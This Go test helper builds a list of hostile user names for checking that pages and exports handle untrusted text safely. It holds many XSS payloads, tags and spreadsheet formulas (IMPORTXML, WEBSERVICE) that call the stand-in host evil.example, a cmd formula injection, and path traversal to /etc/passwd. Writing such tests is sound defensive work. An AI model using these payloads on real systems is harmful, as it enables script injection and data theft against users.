package sim

import "strings"

// harm is what a name may try to run. Each sets window.harmed, so that a test sees whether one of them got its way.
const harm = "window.harmed=1"

// harmfulNames are the names of everybody in a hostile world: hostileNames, and all the ways to put a script, a style, a link or a request
// into a page that builds its text carelessly; directions, invisible and very long texts; formulas for sheets.
func harmfulNames() []string {
	names := append([]string{}, hostileNames...)
	for _, form := range []string{
		"<script>$</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "</script><script>$</script>", "</title><svg onload=$>", "</textarea><img src=x onerror=$>",
		"<img src=x onerror=$>", "<img src=https://evil.example/pixel>", "<svg/onload=$>", "<body onload=$>", "<details open ontoggle=$>", "<input autofocus onfocus=$>",
		"<video><source onerror=$>", "<iframe srcdoc='<script>parent.$</script>'>", "<iframe src=https://evil.example>", "<object data=https://evil.example>",
		"<embed src=https://evil.example>", "<link rel=stylesheet href=https://evil.example/x.css>", "<style>@import 'https://evil.example/x.css'</style>",
		"<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<form action=https://evil.example><button>OK",
		"<a href=https://evil.example>Click</a>", "<a href='javascript:$'>Click</a>", "javascript:$", "data:text/html,<script>$</script>", "\" onmouseover=\"$", "' onfocus='$' autofocus='",
		"`${$}`", "{{constructor.constructor('$')()}}", "<!--><img src=x onerror=$>-->", "<![CDATA[<script>$</script>]]>", "<math><mtext><style><img src=x onerror=$>",
		"&lt;script&gt;$&lt;/script&gt;", "%3Cscript%3E$%3C/script%3E", "\\u003cscript\\u003e$\\u003c/script\\u003e", "\x3cimg src=x onerror=$//", "<template><script>$</script></template>",
		"__proto__", "constructor", "toString", "[object Object]", "undefined", "null", "NaN", "\"", "'", "\\", "/", "../../etc/passwd", "%00", "a\x00b", "\u2028\u2029", "\u0085",
		"\u202Eevil\u202C", "\u2067evil\u2069\u2066", "\u200b", "\u00ad", "\U000e0041\U000e0042", "\u0627\u0644\u0627\u0633\u0645 <b>$</b>", "שלום <img src=x onerror=$>",
		"=cmd|'/C calc'!A0", "=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "|calc", "%1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", "\u00a0=1+1", "\ufeff=1+1",
		"=IMPORTXML(\"https://evil.example\",\"//a\")", "=WEBSERVICE(\"https://evil.example\")", "\x1b[2J\x1b]0;evil\x07", "\\\\evil.example\\share", "file:///etc/passwd",
	} {
		names = append(names, strings.ReplaceAll(form, "$", harm))
	}
	return append(names, strings.Repeat("a", 10_000), strings.Repeat("<b>", 3_000), strings.Repeat("\u0300", 500), strings.Repeat("長", 3_000))
}
